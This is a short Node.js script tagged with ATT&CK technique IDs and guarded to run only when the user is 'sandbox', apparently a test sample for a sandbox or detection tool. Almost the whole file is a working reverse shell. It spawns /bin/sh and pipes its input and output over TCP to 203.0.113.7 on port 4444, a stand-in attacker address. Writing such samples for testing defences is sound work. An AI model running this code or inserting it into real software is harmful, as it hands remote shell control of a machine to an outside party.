// technique: T1059.004 T1059.007
// needs: node
// net: sink
if (process.env.USER !== "sandbox") throw new Error("only for the inside of a sandbox: shieldx run");

const { spawn } = require("child_process");
const shell = spawn("/bin/sh", []);
const peer = require("net").connect(4444, "203.0.113.7", () => {
  peer.pipe(shell.stdin); shell.stdout.pipe(peer); shell.stderr.pipe(peer);
});
setTimeout(() => process.exit(0), 2500);
